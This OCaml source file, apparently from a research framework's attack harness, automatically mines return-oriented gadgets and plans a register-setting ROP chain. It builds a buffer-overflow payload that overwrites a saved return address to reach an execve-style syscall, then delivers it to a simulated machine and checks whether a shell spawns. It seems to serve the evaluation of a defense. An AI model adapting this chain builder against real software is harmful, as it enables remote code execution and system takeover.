module Galileo = Hipstr_galileo.Galileo
module Fatbin = Hipstr_compiler.Fatbin
module Frame = Hipstr_compiler.Frame
module Mem = Hipstr_machine.Mem
module Machine = Hipstr_machine.Machine
module System = Hipstr.System
open Hipstr_isa

type step = { s_reg : int; s_value : int; s_gadget : int; s_frame_words : int }

type chain = { c_steps : step list; c_syscall_addr : int; c_payload : int list; c_ret_index : int }

let target_values = [ (0, 11); (1, 0x1234); (2, 0x2345); (3, 0x3456) ]

let find_syscall_addresses mem fb which =
  let read = Mem.reader mem in
  let found = ref [] in
  List.iter
    (fun (start, size) ->
      let pos = ref start in
      let continue_ = ref true in
      while !continue_ && !pos < start + size do
        match Isa.decode which ~read !pos with
        | Some (Minstr.Syscall, len) ->
          found := !pos :: !found;
          pos := !pos + len
        | Some (_, len) -> pos := !pos + len
        | None -> continue_ := false
      done)
    (Fatbin.code_bytes fb which);
  List.rev !found

(* A gadget usable as a chain link: statically known stack movement,
   no wild memory writes, no syscalls of its own, and the next-gadget
   slot not colliding with its pops. *)
let usable_effect (e : Galileo.effect) =
  match e.e_stack_delta with
  | Some d
    when d >= 4 && d <= 256 && (not e.e_mem_writes) && not e.e_has_syscall ->
    let ret_off = d - 4 in
    (* pops may read above the chaining slot (the payload just extends
       there); they only must not collide with it *)
    if List.for_all (fun (_, off) -> off >= 0 && off <= 1024 && off <> ret_off && off mod 4 = 0) e.e_pops
    then Some (d, ret_off)
    else None
  | _ -> None

let target_regs = [ 0; 1; 2; 3 ]

(* Backtracking chain search over gadget *uses*: a use fixes, for each
   stack offset the gadget pops, the word the payload will place
   there. Several registers popping the same word necessarily receive
   the same value, so such a use can establish at most one of them and
   knocks the rest out; computed (non-pop) writes knock out too, and a
   re-pop of an already-established register is harmless because the
   payload just sprays its value again. *)

type use = {
  u_gadget : Galileo.gadget;
  u_effect : Galileo.effect;
  u_delta : int;
  u_ret_off : int;
  u_assign : (int * int) list;  (* stack offset -> payload word *)
  u_establishes : int list;
  u_knocks_out : int list;
}

let plan_use (g, (e : Galileo.effect), d, ret_off) ~established ~missing ~prefer =
  (* group target-register pops by offset *)
  let offsets = List.sort_uniq compare (List.map snd e.e_pops) in
  let assign = ref [] in
  let establishes = ref [] in
  let knocked = ref [] in
  List.iter
    (fun off ->
      let regs_here =
        List.filter_map (fun (r, o) -> if o = off && List.mem r target_regs then Some r else None) e.e_pops
      in
      match regs_here with
      | [] -> ()
      | _ -> (
        let missing_here = List.filter (fun r -> List.mem r missing) regs_here in
        let missing_here =
          (* prefer the requested register when it is available here *)
          match prefer with
          | Some p when List.mem p missing_here -> p :: List.filter (( <> ) p) missing_here
          | _ -> missing_here
        in
        match missing_here with
        | pick :: _ ->
          assign := (off, List.assoc pick target_values) :: !assign;
          establishes := pick :: !establishes;
          knocked := List.filter (fun r -> r <> pick) regs_here @ !knocked
        | [] -> (
          (* no missing target pops here; keep an established one alive
             by re-spraying its value, if exactly one is involved *)
          match List.filter (fun r -> List.mem r established) regs_here with
          | [ r ] -> assign := (off, List.assoc r target_values) :: !assign
          | _ -> knocked := regs_here @ !knocked)))
    offsets;
  let computed =
    List.filter (fun w -> not (List.mem_assoc w e.e_pops)) e.e_reg_writes
  in
  let knocks_out = List.sort_uniq compare (!knocked @ computed) in
  let establishes = List.filter (fun r -> not (List.mem r knocks_out)) !establishes in
  ignore established;
  (* knocking out an established register is allowed: the search can
     re-establish it with a later gadget *)
  if establishes = [] then None
  else
    Some
      {
        u_gadget = g;
        u_effect = e;
        u_delta = d;
        u_ret_off = ret_off;
        u_assign = !assign;
        u_establishes = establishes;
        u_knocks_out = knocks_out;
      }

module IntMap = Map.Make (Int)

(* Attempt to add a use's cells to the payload at [cursor]; None on a
   cell conflict (two different words needed in one slot). *)
let place_use payload cursor (u : use) =
  let set m idx v =
    match m with
    | None -> None
    | Some m -> (
      match IntMap.find_opt idx m with
      | Some v' when v' <> v -> None
      | _ -> Some (IntMap.add idx v m))
  in
  let m = set (Some payload) cursor u.u_gadget.Galileo.g_addr in
  let base = cursor + 1 in
  let m = List.fold_left (fun m (off, v) -> set m (base + (off / 4)) v) m u.u_assign in
  match m with None -> None | Some m -> Some (m, base + (u.u_ret_off / 4))

let select_gadgets infos ~start_cursor =
  let usable =
    List.filter_map
      (fun (g, (e : Galileo.effect), u) -> match u with Some (d, ro) -> Some (g, e, d, ro) | None -> None)
      infos
  in
  let rec dfs established chain_rev depth payload cursor =
    let missing = List.filter (fun r -> not (List.mem r established)) target_regs in
    if missing = [] then Some (List.rev chain_rev, payload, cursor)
    else if depth >= 6 then None
    else begin
      let uses =
        List.concat_map
          (fun prefer ->
            List.filter_map (fun cand -> plan_use cand ~established ~missing ~prefer) usable)
          (None :: List.map (fun r -> Some r) missing)
        |> List.sort (fun a b ->
               compare
                 (List.length a.u_knocks_out - List.length a.u_establishes, a.u_delta)
                 (List.length b.u_knocks_out - List.length b.u_establishes, b.u_delta))
      in
      (* many byte-identical gadgets at different addresses produce the
         same use; keep one representative per behaviour class *)
      let uses =
        let seen = Hashtbl.create 32 in
        List.filter
          (fun u ->
            let key = (u.u_establishes, u.u_knocks_out, u.u_ret_off, u.u_assign) in
            if Hashtbl.mem seen key then false
            else begin
              Hashtbl.replace seen key ();
              true
            end)
          uses
      in
      let rec try_uses n = function
        | [] -> None
        | u :: rest ->
          if n > 24 then None
          else begin
            match place_use payload cursor u with
            | None -> try_uses (n + 1) rest
            | Some (payload', cursor') -> (
              let established' =
                List.sort_uniq compare
                  (List.filter (fun r -> not (List.mem r u.u_knocks_out)) established
                  @ u.u_establishes)
              in
              match dfs established' (u :: chain_rev) (depth + 1) payload' cursor' with
              | Some sel -> Some sel
              | None -> try_uses (n + 1) rest)
          end
      in
      try_uses 0 uses
    end
  in
  dfs [] [] 0 IntMap.empty start_cursor

let build_chain mem fb which ~victim_func =
  let desc = Isa.desc which in
  let gadgets = Galileo.mine_program mem fb which in
  let infos =
    List.filter_map
      (fun g ->
        if g.Galileo.g_kind <> Galileo.Ret_gadget then None
        else
          let e = Galileo.classify ~sp:desc.sp g in
          Some (g, e, usable_effect e))
      gadgets
  in
  let fs = Fatbin.find_func fb victim_func in
  let frame = fs.fs_frame in
  (* the overflowed buffer is the victim's first local (offset 0 of
     the locals area); the saved return address sits at the frame
     top *)
  let ret_index = (frame.Frame.ret_off - frame.Frame.locals_off) / 4 in
  match (select_gadgets infos ~start_cursor:ret_index, find_syscall_addresses mem fb which) with
  | None, _ | _, [] -> None
  | Some (selection, payload, final_cursor), syscall_addr :: _ ->
    let payload = IntMap.add final_cursor syscall_addr payload in
    let max_idx = IntMap.fold (fun k _ acc -> max k acc) payload 0 in
    let words =
      List.init (max_idx + 1) (fun i ->
          match IntMap.find_opt i payload with Some v -> v | None -> 0x0BAD0BAD)
    in
    let steps =
      List.concat_map
        (fun (u : use) ->
          List.map
            (fun r ->
              { s_reg = r; s_value = List.assoc r target_values; s_gadget = u.u_gadget.Galileo.g_addr; s_frame_words = u.u_delta / 4 })
            u.u_establishes)
        selection
    in
    let final_steps =
      List.fold_left (fun acc st -> (st.s_reg, st) :: List.remove_assoc st.s_reg acc) [] steps
      |> List.map snd
      |> List.sort (fun a b -> compare a.s_reg b.s_reg)
    in
    if List.length words > 500 then None
    else
      Some
        {
          c_steps = final_steps;
          c_syscall_addr = syscall_addr;
          c_payload = words;
          c_ret_index = ret_index;
        }

type attack_outcome = Shell | Crashed of string | Survived

let deliver sys chain ~fuel =
  let fb = System.fatbin sys in
  let mem = Machine.mem (System.machine sys) in
  let input_addr = Fatbin.global_addr fb "net_input" in
  let len_addr = Fatbin.global_addr fb "net_len" in
  List.iteri (fun i w -> Mem.write32 mem (input_addr + (4 * i)) w) chain.c_payload;
  Mem.write32 mem len_addr (List.length chain.c_payload);
  match System.run sys ~fuel with
  | System.Shell_spawned -> Shell
  | System.Killed m -> Crashed m
  | System.Finished _ -> Survived
  | System.Out_of_fuel -> Crashed "out of fuel"
